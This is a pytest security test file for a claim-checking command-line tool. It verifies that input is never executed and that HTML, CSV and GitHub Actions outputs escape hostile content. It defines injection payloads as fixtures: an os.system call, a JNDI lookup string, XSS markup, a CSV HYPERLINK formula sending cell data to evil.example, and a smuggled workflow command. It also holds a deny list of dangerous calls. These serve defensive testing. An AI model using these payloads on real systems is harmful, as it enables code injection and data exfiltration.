"""Security of what is read: content from claims, articles and settings is never executed or
evaluated, paths stay inside the folders given, and every output format escapes what it prints
(HTML in the report, workflow commands in GitHub's log, formulas in CSV)."""

from __future__ import annotations

import ast
import csv
import io
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from checker.cli import cli, main
from checker.report import FORMATS

ROOT = Path(__file__).resolve().parents[1]
BASE = ROOT / "tests" / "bad_inputs" / "base"
HEADER = "source,metric,value,low,high,qualifier,unit,modality,as_of,quote,status,note"
#: What hostile content tries: run code, open a formula, inject markup, start a CI command.
CODE = "__import__('os').system('touch PWNED') {{7*7}} ${jndi:ldap://x/a}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"
COMMAND = "::error file=evil.py,line=1::pwned %0A::warning::pwned"
#: Text columns of csv output (numbers and line are printed by us, never from input).
CSV_TEXT_COLUMNS = ("finding", "metric", "verdict", "explanation", "source", "qualifier", "unit",
                    "modality", "as_of", "quote", "file")  # fmt: skip


def csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture
def hostile(tmp_path, monkeypatch) -> Path:
    """Two sources in conflict (so every renderer prints them), with hostile quotes and notes
    that are also in the articles (so validation passes and the quotes are shown)."""
    project = tmp_path / "project"
    shutil.copytree(BASE, project)
    quote_a = f"{FORMULA} 33 hostages {MARKUP}\n{COMMAND}"
    quote_b = f"+40 hostages -2+3 @SUM(A1) {CODE}"
    # and sentences that extraction reads, starting as formulas do
    extra_a = "=cmd Hamas would free 33 hostages in a first phase."
    extra_b = "+More than 120 hostages are still held in Gaza, @officials said."
    (project / "seeds" / "a.txt").write_text(
        f" date 2024-05-02 {quote_a}\n{extra_a}\n", encoding="utf-8"
    )
    (project / "seeds" / "b.txt").write_text(
        f" date 2024-05-03 {quote_b}\n{extra_b}\n", encoding="utf-8"
    )
    claim = "{},hostages.release.phase1,{},,,exact,people,proposed,,{},reviewed,{}\n"
    rows = {
        "a": claim.format("a", 33, csv_cell(quote_a), csv_cell(MARKUP + CODE)),
        "b": claim.format("b", 40, csv_cell(quote_b), csv_cell(COMMAND)),
    }
    for source, row in rows.items():
        (project / "claims" / f"{source}.csv").write_text(f"{HEADER}\n{row}", encoding="utf-8")
    sources = "source,outlet,published,lang,url\n"
    sources += f"a,{csv_cell(MARKUP)},2024-05-02,en,javascript:alert(1)\n"
    sources += f"b,{csv_cell(FORMULA)},2024-05-03,en,{csv_cell(COMMAND)}\n"
    for folder in ("claims", "seeds"):
        (project / folder / "sources.csv").write_text(sources, encoding="utf-8")
    monkeypatch.chdir(project)
    return project


def invoke(*args: str):
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def run_main(capsys, *args: str) -> tuple[int, str]:
    """Through the real entry point (errors become one line and exit 2)."""
    with pytest.raises(SystemExit) as info:
        main(list(args))
    out, err = capsys.readouterr()
    return int(info.value.code), out + err


def test_hostile_store_is_valid_and_in_conflict(hostile):
    """The fixture reaches every renderer: it validates, and check fails on its conflict."""
    assert invoke("validate").exit_code == 0, invoke("validate").output
    assert invoke("check").exit_code == 1


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_nothing_read_is_ever_run(hostile, fmt):
    invoke("check", "--format", fmt)
    invoke("validate")
    assert not (hostile / "PWNED").exists()
    assert not (Path.cwd() / "PWNED").exists()


@pytest.mark.parametrize("fmt", ["github", "table", "markdown"])
def test_no_output_line_starts_a_workflow_command_of_its_own(hostile, fmt):
    """GitHub Actions runs any log line starting with "::" (after spaces): only ours may."""
    output = invoke("check", "--format", fmt).output
    for line in output.splitlines():
        if line.lstrip().startswith("::"):
            assert fmt == "github", line
            assert line.startswith(("::error file=claims/", "::notice file=claims/")), line
    if fmt == "github":
        annotations = [line for line in output.splitlines() if line.startswith("::")]
        assert len(annotations) == 2  # one per claim of the conflict, nothing injected


def test_github_annotations_escape_names_and_messages(hostile):
    """A source id and file name holding "%0A::warning::" stay inside their annotation."""
    evil = "b%0A::warning file=x::pwned%2Cline=9"
    for folder, suffix in (("claims", ".csv"), ("seeds", ".txt")):
        (hostile / folder / f"b{suffix}").rename(hostile / folder / f"{evil}{suffix}")
    claims = hostile / "claims" / f"{evil}.csv"
    claims.write_text(
        claims.read_text(encoding="utf-8").replace("\nb,", f"\n{evil},"), encoding="utf-8"
    )
    for name in ("claims/sources.csv", "seeds/sources.csv"):
        path = hostile / name
        path.write_text(
            path.read_text(encoding="utf-8").replace("\nb,", f"\n{evil},"), encoding="utf-8"
        )
    result = invoke("check", "--format", "github")
    assert result.exit_code == 1, result.output
    annotations = [line for line in result.output.splitlines() if line.lstrip().startswith("::")]
    assert len(annotations) == 2
    for line in annotations:
        properties, _, message = line[len("::error ") :].partition("::")
        assert line.startswith("::error file=claims/")
        assert "%0A" not in message.replace("%250A", "")  # the runner would decode it
        assert set(properties.split(",")) & {"line=9"} == set()  # no property smuggled in


def test_problems_in_github_format_are_escaped_too(hostile):
    path = hostile / "claims" / "a.csv"
    path.write_text(
        path.read_text(encoding="utf-8").replace(",exact,", ',"x\n::error::pwned",'),
        encoding="utf-8",
    )
    result = invoke("validate", "--format", "github")
    assert result.exit_code == 2
    for line in result.output.splitlines():
        assert not line.lstrip().startswith("::") or line.startswith(
            "::error file=claims/a.csv,line=2,"
        ), line


def test_csv_output_neutralises_formulas(hostile):
    output = invoke("check", "--format", "csv").output
    rows = list(csv.DictReader(io.StringIO(output)))
    assert rows and {r["source"] for r in rows} == {"a", "b"}
    for row in rows:
        for column in CSV_TEXT_COLUMNS:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (
                column,
                row[column],
            )
    quotes = {r["source"]: r["quote"] for r in rows}
    assert quotes["a"].startswith("'=HYPERLINK(") and quotes["b"].startswith("'+40 hostages")


def test_extracted_csv_neutralises_formulas(hostile):
    output = invoke("extract", "seeds", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(output)))
    assert {r["quote"][:2] for r in rows} >= {"'=", "'+"}, output
    for row in rows:
        assert not any(
            cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()
        ), row


def test_html_report_escapes_everything_it_prints(hostile):
    result = invoke("report", "--html", "report.html")
    assert result.exit_code == 0, result.output
    page = (hostile / "report.html").read_text(encoding="utf-8")
    for raw in ("<script", "<img src=x", 'href="javascript:'):
        assert raw not in page, raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "::error file=evil.py" in page  # shown, as text


def test_settings_are_data_not_code(hostile, capsys):
    (hostile / "claimcheck.toml").write_text(f'fail_on = "{CODE}"\n', encoding="utf-8")
    code, output = run_main(capsys, "check")
    assert code == 2 and "fail_on must be one of" in output
    assert not (hostile / "PWNED").exists()


def test_acknowledge_never_writes_through_a_link_out_of_the_store(hostile, tmp_path):
    outside = tmp_path / "outside.csv"
    outside.write_text("id,metric,reason\n", encoding="utf-8")
    ack = hostile / "claims" / "acknowledged.csv"
    ack.unlink()
    ack.symlink_to(outside)
    result = invoke("acknowledge", "Fdeadbeef", "--reason", "x")
    assert result.exit_code == 2 and "links outside claims" in result.output
    assert outside.read_text(encoding="utf-8") == "id,metric,reason\n" and ack.is_symlink()


# --- no code path evaluates input ---------------------------------------------------------

#: Calls that run code or deserialise objects; none may appear in the package.
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile", "input"}
FORBIDDEN_ATTRIBUTES = {
    ("pickle", "load"), ("pickle", "loads"), ("marshal", "load"), ("marshal", "loads"),
    ("yaml", "load"), ("os", "system"), ("os", "popen"), ("importlib", "import_module"),
    ("shelve", "open"), ("ast", "literal_eval"),
}  # fmt: skip


#: (file, function) -> why a forbidden call there never sees input. Keep this short.
ALLOWED: dict[tuple[str, str], str] = {
    ("checker/parallel.py", "result"): "loads what its own forked child wrote to a private pipe",
}


def calls(tree: ast.AST, function: str = ""):
    """(enclosing function, call) for every call in ``tree``."""
    for node in ast.iter_child_nodes(tree):
        inner = node.name if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)) else function
        if isinstance(node, ast.Call):
            yield function, node
        yield from calls(node, inner)


def test_the_package_never_evaluates_or_shells_out():
    found = []
    for path in sorted((ROOT / "checker").rglob("*.py")):
        name = path.relative_to(ROOT).as_posix()
        tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
        for function, call in calls(tree):
            if (name, function) in ALLOWED:
                continue
            where = f"{name}:{call.lineno}"
            func = call.func
            if isinstance(func, ast.Name) and func.id in FORBIDDEN_CALLS:
                found.append(f"{where}: {func.id}()")
            if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
                if (func.value.id, func.attr) in FORBIDDEN_ATTRIBUTES:
                    found.append(f"{where}: {func.value.id}.{func.attr}()")
            for keyword in call.keywords:
                if keyword.arg == "shell" and not (
                    isinstance(keyword.value, ast.Constant) and keyword.value.value is False
                ):
                    found.append(f"{where}: shell=")
    assert found == []
